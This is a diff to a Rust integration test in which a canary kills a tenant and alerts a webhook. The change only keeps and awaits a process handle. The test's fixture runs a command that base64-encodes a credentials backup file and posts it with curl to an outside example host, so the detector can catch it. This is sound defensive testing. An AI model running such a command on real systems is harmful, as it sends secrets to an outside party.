@@ -117,7 +117,7 @@ fn a_canary_freezes_the_cell_and_the_webhook_hears_of_it() {
     // To have it is no offence, nor is anything else that is sent.
     assert_eq!(shell(&host, "curl -sS -m 60 http://web.example.com/in"), "it arrived");
 
-    let _sending = host.begin(
+    let mut sending = host.begin(
         "acme",
         &["sh", "-c", "base64 /opt/credentials/backup | curl -sS -m 60 -d @- http://web.example.com/in"],
     );
@@ -125,6 +125,7 @@ fn a_canary_freezes_the_cell_and_the_webhook_hears_of_it() {
         let shown = host.json(&["tenant", "show", "acme"]);
         (shown["state"] == "killed").then_some(shown)
     });
+    sending.wait().unwrap();
     let said = shown["failure"]["message"].as_str().unwrap();
     assert!(said.contains("canary BAIT was about to be sent to http://web.example.com:80"), "{said}");
     let hooks: Vec<_> = host.world.web.requests().into_iter().filter(|it| it.path == "/hook").collect();
